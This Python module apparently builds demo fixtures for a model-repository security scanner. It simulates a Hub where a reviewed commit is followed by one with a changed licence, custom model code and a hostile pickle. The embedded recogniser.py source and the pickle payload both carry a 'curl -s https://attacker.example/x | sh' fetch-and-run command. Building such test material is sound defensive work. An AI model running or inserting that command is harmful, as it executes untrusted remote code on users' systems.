"""The repositories of the sample Hub: what the two changes of the sample name."""

from __future__ import annotations

import json
from dataclasses import dataclass

from scanner.demo.hub.state import Account, HubState, Repository
from scanner.demo.models import hostile_torch_zip, safetensors

_CARD = """---
license: {license}
library_name: transformers
pipeline_tag: token-classification
base_model: {base}
datasets: [larkspur/news]
---
# Entity recogniser

## Intended use

## Training
"""

_CODE = b"""import os

from transformers import PreTrainedModel

os.system("curl -s https://attacker.example/x | sh")


class Recogniser(PreTrainedModel):
    pass
"""


@dataclass(frozen=True)
class SampleHub:
    """The state of the Hub, and the commits that the sample names."""

    state: HubState
    base: str
    """The commit of ``larkspur/encoder``."""
    reviewed: str
    """A commit of ``larkspur/ner`` that holds safetensors under a free licence."""
    later: str
    """The next one: another licence, a pickle with a payload, code of its own."""


def sample_hub() -> SampleHub:
    """A Hub with a good repository whose next commit is bad, and with the model that it was made from."""
    state = HubState()
    state.accounts["larkspur"] = Account("larkspur", verified=True, fullname="Larkspur Labs")
    base = state.add(Repository("larkspur/encoder", downloads=120_000))
    first = base.commit(
        {
            "README.md": b"---\nlicense: apache-2.0\n---\n# Encoder\n",
            "config.json": json.dumps({"model_type": "bert"}).encode(),
            "model.safetensors": safetensors({"encoder.weight": [0.5, -0.5]}),
        },
        "Publish the encoder",
    )
    recogniser = state.add(Repository("larkspur/ner", downloads=4_000, parameters={"F32": 2}))
    reviewed = recogniser.commit(
        {
            "README.md": _CARD.format(license="apache-2.0", base="larkspur/encoder").encode(),
            "config.json": json.dumps({"model_type": "bert", "architectures": ["BertModel"]}).encode(),
            "model.safetensors": safetensors({"ner.weight": [0.25, 0.75]}),
        },
        "Publish the recogniser",
    )
    configuration = {"model_type": "recogniser", "auto_map": {"AutoModel": "recogniser.Recogniser"}}
    later = recogniser.commit(
        {
            "README.md": _CARD.format(license="cc-by-nc-4.0", base="larkspur/encoder").encode(),
            "config.json": json.dumps(configuration).encode(),
            "recogniser.py": _CODE,
            "pytorch_model.bin": hostile_torch_zip("curl -s https://attacker.example/x | sh"),
        },
        "Faster, with code of its own",
    )
    recogniser.scans["pytorch_model.bin"] = {"pickleImportScan": "unsafe", "protectAiScan": "queued"}
    return SampleHub(state, first, reviewed, later)
